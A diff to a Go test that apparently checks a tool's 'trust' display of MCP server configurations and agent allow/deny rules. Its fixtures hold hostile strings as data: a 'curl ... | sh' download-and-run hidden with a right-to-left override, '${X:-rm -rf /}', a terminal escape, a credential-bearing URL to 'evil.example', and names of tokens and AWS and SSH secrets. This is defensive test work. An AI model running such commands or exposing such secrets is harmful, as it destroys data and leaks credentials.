@@ -13,7 +13,7 @@ const tellingServers = `{"mcpServers": {
   "web": {"url": "https://user:pa55word@evil.example/mcp?key=k3y", "headers": {"X-Key": "s3cret-value"}, "disabled": true}
 }}`
 
-const tellingRules = `{"agents": {"backend": {"allow": {"servers": ["db*"], "tools": {"db*": ["read_*"]}}, "deny": {"tools": {"*": ["drop_*"]}}, "instructions": "Obey\nme"}},
+const tellingRules = `{"agents": {"backend": {"allow": {"servers": ["db*"], "tools": {"db*": ["read_*"]}, "resources": {"db*": ["db:*"]}}, "expose": {"db1": ["read_x"]}, "deny": {"tools": {"*": ["drop_*"]}, "prompts": {"*": ["leak"]}}, "instructions": "Obey\nme"}},
   "defaults": {"deny_on_missing_agent": false}}`
 
 func TestTrust_showsWhatWouldRunAndWhoMayDoWhat(t *testing.T) {
@@ -23,7 +23,7 @@ func TestTrust_showsWhatWouldRunAndWhoMayDoWhat(t *testing.T) {
 	shown := runHere("trust").want(t, exitNo, "no terminal", "--yes")
 	for _, want := range []string{
 		`db runs sh -c`, `curl \u202eevil | sh`, "${X:-rm -rf /}", "[a GitHub token]", "KEY, NODE_OPTIONS", "AWS_SECRET_ACCESS_KEY, X",
-		".env", `/srv\x1b[2J`, "SSH_*", "connects to https://evil.example", "disabled", "X-Key", "backend may use db*", "db*: read_*", "but not *: drop_*", "default", `backend is told: Obey\nme`,
+		".env", `/srv\x1b[2J`, "SSH_*", "connects to https://evil.example", "disabled", "X-Key", "backend may use db*", "db*: read_*", "but not *: drop_*, prompts of *: leak", "only these resources: db*: db:*", "is shown, if it may use them: db1: read_x", "default", `backend is told: Obey\nme`,
 	} {
 		if !strings.Contains(shown.out, want) {
 			t.Errorf("nothing shows %q in\n%s", want, shown.out)
